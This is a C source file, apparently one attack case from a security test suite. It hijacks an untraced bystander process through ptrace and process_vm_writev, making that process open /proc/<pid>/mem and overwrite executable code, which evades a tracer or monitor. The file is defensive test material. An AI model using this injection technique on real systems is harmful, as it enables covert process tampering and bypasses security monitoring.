/*
 * Attack: make a process outside the traced tree write the code. The program
 * attaches (PTRACE_SEIZE) to a bystander process PID that nobody traces (run
 * by the same user), puts a path and the code on the bystander's stack with
 * process_vm_writev (its stack is writable), and drives its registers
 * (PTRACE_SETREGS, single steps over a `syscall` instruction the bystander
 * stopped after) to make it run openat("/proc/<us>/mem", O_RDWR) and pwrite64
 * of the code over tw_patch_target in our read+execute text. No POKE, no
 * open of a mem file, no memory call by the tree. Then it calls the patched
 * function.
 *
 * usage: attack_puppet PID
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>

#include "common.h"

TW_DEFINE_PATCH_TARGET;

static long put(pid_t pid, unsigned long addr, const void *data, size_t len)
{
	struct iovec local = {(void *)data, len}, remote = {(void *)addr, len};

	return process_vm_writev(pid, &local, 1, &remote, 1, 0);
}

/* Run one syscall in the stopped bystander at its `syscall` gadget; return its rax. */
static long remote_call(pid_t pid, const struct user_regs_struct *base, unsigned long gadget, long nr,
			long a0, long a1, long a2, long a3)
{
	struct user_regs_struct regs = *base;
	int status;

	regs.rip = gadget;
	regs.rax = (unsigned long)nr;
	regs.orig_rax = (unsigned long)-1;
	regs.rdi = (unsigned long)a0;
	regs.rsi = (unsigned long)a1;
	regs.rdx = (unsigned long)a2;
	regs.r10 = (unsigned long)a3;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) != 0 || ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) != 0 ||
	    waitpid(pid, &status, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, NULL, &regs) != 0)
		return -1000 - errno;
	return (long)regs.rax;
}

int main(int argc, char **argv)
{
	pid_t pid = (pid_t)tw_count_arg(argc, argv, 1, "PID");
	struct user_regs_struct saved;
	unsigned long scratch, gadget;
	unsigned char insn[2];
	struct iovec local = {insn, 2}, remote;
	char path[64];
	long rc, fd;
	int status;

	tw_init();
	rc = ptrace(PTRACE_SEIZE, pid, NULL, NULL);
	tw_step("seize", "ptrace", rc, errno);
	if (rc != 0)
		return tw_done();
	rc = ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	tw_step("interrupt", "ptrace", rc, errno);
	if (rc != 0 || waitpid(pid, &status, __WALL) != pid)
		return tw_done();
	rc = ptrace(PTRACE_GETREGS, pid, NULL, &saved);
	tw_step("getregs", "ptrace", rc, errno);
	if (rc != 0)
		return tw_done();
	/* Stopped in a blocking call: the instruction before rip is `syscall`. */
	gadget = saved.rip - 2;
	remote = (struct iovec){(void *)gadget, 2};
	if (process_vm_readv(pid, &local, 1, &remote, 1, 0) != 2 || insn[0] != 0x0f || insn[1] != 0x05) {
		tw_emit("STEP gadget none rc=-1 errno=ENOENT");
		return tw_done();
	}
	scratch = (saved.rsp - 4096) & ~15UL;
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)getpid());
	rc = put(pid, scratch, path, strlen(path) + 1) < 0 ? -1 : put(pid, scratch + 256, TW_CODE, sizeof(TW_CODE));
	tw_step("put", "process_vm_writev", rc, errno);
	if (rc < 0)
		return tw_done();
	fd = remote_call(pid, &saved, gadget, SYS_openat, AT_FDCWD, (long)scratch, O_RDWR, 0);
	tw_emit("STEP remote_open openat rc=%ld errno=0", fd);
	if (fd >= 0) {
		rc = remote_call(pid, &saved, gadget, SYS_pwrite64, fd, (long)(scratch + 256), sizeof(TW_CODE),
				 (long)(uintptr_t)tw_patch_target);
		tw_emit("STEP remote_pwrite pwrite64 rc=%ld errno=0", rc);
		remote_call(pid, &saved, gadget, SYS_close, fd, 0, 0, 0);
	}
	ptrace(PTRACE_SETREGS, pid, NULL, &saved);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	if (tw_patch_target() == TW_CODE_RESULT)
		tw_run("puppet_call", (const void *)tw_patch_target);
	return tw_done();
}
